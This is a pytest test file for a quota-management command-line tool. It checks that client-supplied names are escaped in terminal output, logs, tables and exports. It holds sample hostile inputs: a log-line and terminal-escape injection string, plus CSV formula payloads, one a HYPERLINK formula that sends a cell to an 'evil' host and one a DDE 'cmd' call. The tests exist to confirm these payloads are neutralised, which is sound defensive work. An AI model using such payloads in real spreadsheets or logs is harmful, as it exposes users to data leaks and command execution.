"""Names come from clients. Every output escapes their control characters; JSON and YAML are read back as they were."""

import csv
import io
import json
import logging
import sys
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any
from unittest.mock import patch

import pytest
import yaml

from pipeline.cli.main import exit_code
from pipeline.cli.output import print_rows
from pipeline.errors import PipelineError, first_line, printable
from pipeline.log import set_up_logging
from pipeline.tables.quotas.edit import QuotaChange
from tests.pipeline.cli.running import Terminal, kquota, new_tables
from tests.pipeline.replay.kept import KeptJob
from tests.quota.factories import usage_row

# A second log line, a screen that is cleared, a text that is reversed, and markup of rich.
EVIL = "x\n09:00:00.000  release  alice/etl \x1b[2J\x9b1m\u202e\u2028[/red]:smile:"
SHOWN = r"x\n09:00:00.000  release  alice/etl \x1b[2J\x9b1m\u202e\u2028[/red]:smile:"


def is_safe(text: str) -> bool:
    return all(line.isprintable() for line in text.split("\n"))


@pytest.fixture
def job(tmp_path: Path) -> KeptJob:
    """One decision on a client whose id is evil, and a quota of a user with the same name."""
    job = KeptJob(str(tmp_path), QuotaChange("alice", EVIL, {"producer_byte_rate": 1_000.0}))
    job.decided += job.batch([usage_row(job.clock.wall_ms, user="alice", client_id=EVIL, produced_bytes=30_000)])
    job.flush()
    return job


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("orders é 日本 ·", "orders é 日本 ·"),
        ("CORP\\alice", "CORP\\alice"),
        ("a\tb\r\n\0\x7f", r"a\tb\r\n\x00\x7f"),
        ("\u200b\u2066\ufeff\ud800", r"\u200b\u2066\ufeff\ud800"),
        (EVIL, SHOWN),
        ("", ""),
    ],
)
def test_what_a_terminal_would_not_show_as_it_is_is_escaped(text: str, shown: str) -> None:
    assert printable(text) == shown


@pytest.mark.parametrize(
    "command",
    [
        ("quotas", "describe"),
        ("quotas", "describe", "-o", "wide"),
        ("quotas", "history", "-o", "wide"),
        ("quotas", "diff", "1", "2"),
        ("quotas", "effective", "--user", "alice", "--client-id", EVIL, "-o", "wide"),
        ("quotas", "alter", "--user", "alice", "--client", EVIL, "--add-config", "mode=shadow", "--dry-run"),
        ("quotas", "delete", "--user", EVIL),
        ("throttles", "explain", "alice", EVIL),
        ("throttles", "explain", "alice", EVIL + "y"),
    ],
    ids=lambda command: " ".join(command[:2]),
)
def test_commands_show_a_name_escaped(command: tuple[str, ...], job: KeptJob) -> None:
    answer = kquota(*command, "--tables", job.root)
    text = answer.stdout + answer.stderr
    assert is_safe(text), text
    assert r"\x1b[2J" in text


def test_an_edit_answers_with_the_name_escaped(tmp_path: Path) -> None:
    answer = kquota(
        "quotas", "alter", "--client", EVIL, "--add-config", "mode=exempt", "--tables", new_tables(tmp_path)
    )
    assert answer.stdout == f"Completed updating config for client {SHOWN}.\n"


@pytest.mark.parametrize(
    ("output", "read", "name"),
    [
        ("json", json.loads, EVIL),
        ("yaml", yaml.safe_load, EVIL),
        ("csv", lambda text: list(csv.DictReader(io.StringIO(text))), SHOWN),
    ],
)
def test_a_document_is_printable_and_read_back(
    output: str, read: Callable[[str], Any], name: str, job: KeptJob
) -> None:
    text = kquota("quotas", "describe", "-o", output, "--tables", job.root).stdout
    assert is_safe(text), text
    (row,) = read(text)
    assert row["client_id"] == name
    if output == "csv":
        return
    exported = kquota("quotas", "export", "-o", output, "--tables", job.root).stdout
    assert is_safe(exported), exported
    (quota,) = read(exported)["quotas"]
    assert name in {part["name"] for part in quota["entity"]}


@pytest.mark.parametrize(
    ("name", "cell"),
    [
        ('=HYPERLINK("http://evil/?"&A1,"open")', '\'=HYPERLINK("http://evil/?"&A1,"open")'),
        ("+1", "'+1"),
        ("-1+cmd|' /C calc'!A0", "'-1+cmd|' /C calc'!A0"),
        ("@SUM(1)", "'@SUM(1)"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("\t=1+1", r"\t=1+1"),
        ("a;=1+1;-2", "a;'=1+1;'-2"),
        ("etl-1=a+b@c", "etl-1=a+b@c"),
        (-1.5, "-1.5"),
        (["=1"], '["=1"]'),
    ],
)
def test_csv_has_no_cell_that_a_spreadsheet_runs(name: object, cell: str, capsys: pytest.CaptureFixture[str]) -> None:
    print_rows([{"client_id": name}], "csv")
    (row,) = csv.DictReader(io.StringIO(capsys.readouterr().out))
    assert row["client_id"] == cell


@pytest.mark.parametrize("stdout", [io.StringIO(), Terminal()], ids=["pipe", "terminal"])
def test_a_table_shows_a_name_escaped_and_no_markup_of_it(stdout: io.StringIO, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("COLUMNS", "200")
    monkeypatch.setenv("TERM", "dumb")
    with patch.object(sys, "stdout", stdout):
        print_rows([{"client_id": EVIL}], "table")
    assert SHOWN in stdout.getvalue()


@contextmanager
def log() -> Iterator[logging.Logger]:
    """A logger at DEBUG, with lines as a job writes them to stderr."""
    root = logging.getLogger()
    before, level = root.handlers[:], root.level
    set_up_logging("DEBUG")
    yield logging.getLogger("pipeline.test")
    root.handlers[:] = before
    root.setLevel(level)


def test_a_log_line_is_one_line_whatever_it_names(capsys: pytest.CaptureFixture[str]) -> None:
    with log() as logger:
        logger.info("throttle %s", EVIL)
    line = capsys.readouterr().err
    assert line.endswith(f"throttle {SHOWN}\n")
    assert line.count("\n") == 1


def test_no_line_of_a_stack_trace_looks_like_a_line_of_the_log(capsys: pytest.CaptureFixture[str]) -> None:
    with log() as logger:
        logger.info("failed", exc_info=ValueError(EVIL))
    _, *trace = capsys.readouterr().err.splitlines()
    assert trace == ["  ValueError: x", "  " + SHOWN.removeprefix(r"x\n")]


def test_an_unexpected_failure_is_printable_whatever_it_names(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("KQUOTA_LOG_LEVEL", "DEBUG")
    with patch("pipeline.cli.main.app", side_effect=ValueError(EVIL)):
        assert exit_code() == 1
    text = capsys.readouterr().err
    assert is_safe(text), text
    assert text.count(r"alice/etl \x1b[2J") == 1


def test_an_error_is_one_line_without_control_characters() -> None:
    assert is_safe(str(PipelineError(f"no quota for {EVIL}", "see the names")))
    assert is_safe(first_line(ValueError(EVIL)))
